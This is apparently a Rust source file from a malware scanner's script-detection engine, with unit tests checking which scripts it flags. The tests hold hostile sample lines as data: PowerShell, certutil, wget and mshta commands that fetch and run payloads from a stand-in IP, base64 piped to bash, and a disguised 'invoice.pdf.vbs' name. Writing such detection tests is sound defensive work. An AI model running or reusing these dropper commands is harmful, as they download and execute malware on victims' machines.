//! Scripts and shortcuts: what is downloaded and run, commands that are encoded, code that hides.
//!
//! [`language`] says what a text is written in, [`signs`] what to look for; encoded PowerShell is decoded and judged like the
//! rest. What always holds: several independent signs are needed, because minified code and installers have some of them.

mod decode;
mod language;
mod shortcut;
mod signs;

use portcullis_core::domain::engine::SCRIPTS;

use self::language::Language;
use super::{Heuristic, Subject, deceptive};
use crate::hooks;

/// The engine.
pub(crate) const ENGINE: Heuristic = Heuristic { identity: SCRIPTS, judge: |subject| Ok(judge(subject)) };

/// Bytes that are looked at: droppers are small; of larger files the beginning.
const PROBE: usize = 2 * 1024 * 1024;

fn judge(subject: &Subject<'_>) -> Option<String> {
    hooks::trigger(subject.content);
    deceptive::script(subject.name).map(Into::into).or_else(|| shortcut::judge(subject.content)).or_else(|| judge_text(subject))
}

fn judge_text(subject: &Subject<'_>) -> Option<String> {
    let language = Language::of(subject)?;
    if language.is_encoded(subject.content) {
        return Some("Heur.Script.Encoded".into());
    }
    let text = decode::text(subject.content.get(..PROBE).unwrap_or(subject.content));
    signs::judge(language, &text.to_ascii_lowercase(), &text)
}

#[cfg(test)]
mod tests {
    use base64::Engine as _;

    use super::*;
    use crate::engine::tests_support::judged;

    fn threat(name: &str, text: &str) -> Option<String> {
        judged(judge, name, text.as_bytes())
    }

    fn encoded(command: &str) -> String {
        let wide: Vec<u8> = command.encode_utf16().flat_map(u16::to_le_bytes).collect();
        base64::engine::general_purpose::STANDARD.encode(wide)
    }

    #[test]
    fn droppers_in_each_language() {
        let download = ["IEX (New-Object Net.Web", "Client).Download", "String('http://192.0.2.1/a')"].concat();
        let js = format!("var s=new ActiveXObject('WScript.Shell');eval({});", ["String.fromCharCode(97)"; 9].join("+"));
        let vbs = format!("Execute({})", ["Chr(65)"; 50].join("&"));
        let ps = format!("iex({})", ["[char]65"; 50].join("+"));
        let launch = format!("@echo off\r\npower{} -w hidden -e{} {}\r\n", "shell", "nc", encoded(&download));
        let fetch = [
            "x = CreateObject(\"MSXML2.XML",
            "HTTP\")\nSet s = CreateObject(\"ADODB.",
            "Stream\")\ns.SaveToFile p\nCreateObject(\"WScript.Shell\").Run p",
        ]
        .concat();
        let batch = ["certu", "til -url", "cache -split -f http://192.0.2.1/a.exe %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe\r\n"].concat();
        let carets = "@echo off\r\ns^e^t x=1\r\n".to_owned() + &"%a:~1,1%%b:~2,1%".repeat(20);
        let shell = "#!/bin/sh\ncd /tmp; wget http://192.0.2.1/bot.arm7 -O x; chmod +x x; ./x; rm -f x\n";
        let hidden = "#!/bin/bash\necho aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= | base64 -d | bash\n";
        let python = "import base64,zlib\nexec(zlib.decompress(base64.b64decode('eJxLSU0DAA')))\n";
        let php_like = "<script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"mshta http://192.0.2.1/a\"</script>";
        for (name, text) in [
            ("a.js", js.as_str()),
            ("a.vbs", &vbs),
            ("a.ps1", &ps),
            ("a.ps1", &download),
            ("a.bat", &launch),
            ("a.vbs", &fetch),
            ("a.cmd", &batch),
            ("a.bat", &carets),
            ("a.sh", shell),
            ("x", hidden),
            ("setup.py", python),
            ("a.hta", php_like),
            ("a.vbe", "#@~^EAAAAA==\\ko$K6PJ4\"YcAAAA==^#~@"),
            ("invoice.pdf.vbs", "x"),
        ] {
            assert!(threat(name, text).is_some(), "{name}: {text}");
        }
    }

    #[test]
    fn what_is_encoded_decides() {
        let launch = |command: &str| format!("powershell -NoProfile -EncodedCommand {}", encoded(command));
        assert_eq!(threat("a.bat", &launch("Get-ChildItem C:\\ | Where-Object { $_.Length -gt 1MB }")), None);
        assert!(
            threat("a.bat", &launch(&["(New-Object Net.WebC", "lient).DownloadFile('http://192.0.2.1/a','a.exe'); Start-Process a.exe"].concat()))
                .is_some()
        );
    }

    #[test]
    fn ordinary_and_minified_scripts() {
        for (name, text) in [
            ("a.js", "function(e){return eval(String.fromCharCode(e))};".repeat(50)),
            ("a.ps1", "Get-ChildItem | Where-Object { $_.Length -gt 1MB }".into()),
            ("a.ps1", "Invoke-WebRequest https://example.org/a.zip -OutFile a.zip\nExpand-Archive a.zip".into()),
            ("a.vbs", "MsgBox \"hi\" & Chr(13)".into()),
            ("install.sh", "#!/bin/sh\ncurl -fsSL https://example.org/install.sh | sh\n".into()),
            ("a.sh", "#!/bin/sh\nset -e\ncd /tmp\nwget https://example.org/a.tar.gz\ntar xf a.tar.gz\nrm -rf a\n".into()),
            ("a.py", "import base64\nprint(base64.b64decode(x))\nexec(open('x').read())\n".into()),
            ("a.bat", "@echo off\r\nset PATH=%PATH:~0,-1%\r\npowershell -ExecutionPolicy Bypass -File build.ps1\r\n".into()),
            ("README.md", "run `curl x | sh`, `powershell -enc`, eval(atob(x)), certutil -urlcache http://x/a.exe".into()),
            ("a.html", "<html><script>document.write(unescape('%3Cp%3E'))</script></html>".into()),
        ] {
            assert_eq!(threat(name, &text), None, "{name}: {text}");
        }
    }
}
